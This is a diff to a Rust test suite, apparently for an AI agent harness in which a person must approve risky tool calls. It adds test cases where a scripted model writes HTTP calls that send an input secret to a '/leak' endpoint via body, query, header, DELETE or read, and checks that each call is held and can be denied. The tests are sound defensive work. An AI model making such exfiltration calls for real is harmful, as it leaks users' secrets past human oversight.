@@ -3,7 +3,7 @@
 use serde_json::{Value, json};
 
 use super::{
-    Attempt, Change, Door,
+    Attempt, Change, Door, Leak,
     stage::{HUSH, Stage},
 };
 use crate::world::{Run, Turn};
@@ -13,7 +13,7 @@ pub async fn attempt(stage: &Stage<'_>, what: &str) -> Vec<(&'static str, Value)
     let refunded = |order: u32| vec![("/refund", json!({ "order": order }))];
     match stage.case.attempt {
         Attempt::NotGiven | Attempt::Inside | Attempt::OtherAgent => is_forbidden(stage, what).await,
-        Attempt::Act | Attempt::Patch | Attempt::Vouch | Attempt::Render | Attempt::ActMcp => {
+        Attempt::Act | Attempt::Patch | Attempt::Vouch | Attempt::Render | Attempt::Tell(_) | Attempt::ActMcp => {
             is_held(stage, what).await
         }
         Attempt::Smuggle => smuggle(stage, what).await,
@@ -104,18 +104,33 @@ async fn is_held(stage: &Stage<'_>, what: &str) {
             let body = json!({ "all": "{{ input.secret }} {{ metadata }} {{ steps }}" });
             http(json!({ "method": "POST", "url": stage.upstream.url("/leak"), "json": body }))
         }
+        Attempt::Tell(leak) => http(tell(stage, leak)),
         Attempt::ActMcp => (stage.mcp_alias("hang"), json!({ "text": "log in" })),
         _ => http(refund),
     };
     let run = stage.run(vec![Turn::Call(vec![call.clone()]), done()]).await;
     let hold = hold(stage, &run, "call-2-1").await;
     assert_eq!(hold["arguments"], call.1, "{what}: what is asked for is what the model wrote");
-    assert!(!hold.to_string().contains(HUSH), "{what}: {hold}");
+    // What the model wrote itself is seen by whoever decides, and nothing else of it.
+    let is_told = matches!(stage.case.attempt, Attempt::Tell(_));
+    assert_eq!(hold.to_string().contains(HUSH), is_told, "{what}: {hold}");
     stage.world.approver().deny(id(&hold), "no").await;
     run.completes().await;
     let heard = stage.provider.asked().last().unwrap().body.to_string();
     assert!(heard.contains("A person denied the call: no"), "{what}: {heard}");
     assert!(stage.server.iter().all(|server| server.calls("hang").is_empty()), "{what}");
+}
+
+/// The call that has the secret of the input in it.
+fn tell(stage: &Stage<'_>, leak: Leak) -> Value {
+    let url = stage.upstream.url("/leak");
+    match leak {
+        Leak::InBody => json!({ "method": "POST", "url": url, "json": { "secret": HUSH } }),
+        Leak::InQuery => json!({ "method": "POST", "url": url, "query": { "s": HUSH } }),
+        Leak::InHeader => json!({ "method": "POST", "url": url, "headers": { "X-Secret": HUSH } }),
+        Leak::InDeletion => json!({ "method": "DELETE", "url": url, "json": { "reason": HUSH } }),
+        Leak::InRead => json!({ "url": url, "query": { "s": HUSH } }),
+    }
 }
 
 /// Consent is no argument of any tool: such a call is none, and the one without it is held.
